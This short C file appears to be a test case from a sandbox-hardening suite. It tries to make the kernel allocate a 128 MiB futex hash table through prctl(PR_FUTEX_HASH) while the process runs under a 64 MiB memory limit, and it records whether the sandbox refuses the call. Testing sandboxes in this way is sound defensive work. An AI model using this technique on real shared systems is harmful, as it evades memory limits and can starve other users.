// Takes memory of the kernel's by one call each: the table of a process's own futexes has any size up to 2 GiB, and
// none of the process's numbers tells it.
// class: OS sandboxes: memory filling
// plain: say
// flags: --memory 64MiB
#include "attack.h"

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const int set_slots = 1;
  if (prctl(78 /* PR_FUTEX_HASH */, set_slots, 1UL << 21, 0, 0) != 0) {
    if (!inside() && errno == EINVAL) needs("futex-hash");
    refused("PR_FUTEX_HASH");
    return 0;
  }
  nap(1000);
  effect("a table of 128 MiB");
  return 0;
}
